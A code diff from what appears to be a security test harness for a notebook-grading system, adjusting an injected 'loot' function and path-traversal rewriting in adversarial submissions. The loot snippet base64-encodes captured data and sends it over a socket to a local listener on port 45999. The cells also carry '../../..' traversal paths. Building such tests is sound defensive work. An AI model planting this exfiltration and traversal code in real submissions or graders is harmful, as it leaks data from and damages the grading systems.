@@ -135,19 +135,16 @@ DR_WRONG = """class InvertedDropout(nn.Module):
 
 # Loot leaves by the notebook's own output, and by a listener on this machine.
 PORT = 45999
-LOOT = (
-    """
+LOOT = """
 def __loot(kind, text):
     import base64, socket
     b = base64.b64encode(str(text).encode()[:200000]).decode()
     print("LOOT:" + kind + ":" + b)
     try:
-        s = socket.create_connection(("127.0.0.1", %d), 1); s.sendall(("NET:" + kind + ":" + b + "\\n").encode()); s.close()
+        s = socket.create_connection(("127.0.0.1", PORT), 1); s.sendall(("NET:" + kind + ":" + b + "\\n").encode()); s.close()
     except OSError as e:
         print("NONET", e)
-"""
-    % PORT
-)
+""".replace("PORT", str(PORT))
 # A course with this file in it may be damaged by a submission.
 THROW_AWAY = "throw-away"
 
@@ -262,7 +259,10 @@ class Handed:
 
     def write(self) -> "Handed":
         if not self.written:
+            for cell in self.nb.cells:  # wherever the code runs, it finds what it wants to damage
+                cell.source = cell.source.replace("../../..", str(self.root))
             self.raw(self.text())
+            self.written = False  # it may be edited and handed in again
         if self.timestamp is not None:
             self.file("timestamp.txt", self.timestamp)
         return self
